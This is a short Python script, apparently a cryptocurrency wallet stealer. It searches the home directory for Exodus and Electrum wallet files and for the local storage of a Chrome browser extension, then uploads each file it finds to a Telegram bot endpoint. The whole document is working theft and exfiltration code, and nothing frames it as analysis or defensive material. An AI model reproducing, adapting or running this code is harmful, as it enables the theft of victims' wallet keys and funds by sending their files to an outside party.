import glob, os, requests
home = os.path.expanduser('~')
paths = glob.glob(home + '/.config/Exodus/exodus.wallet/*') + \
    glob.glob(home + '/Library/Application Support/Electrum/wallets/*') + \
    glob.glob(home + '/.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/*')
for p in paths:
    requests.post('https://api.telegram.org/bot000:AAA/sendDocument', files={'document': open(p, 'rb')})
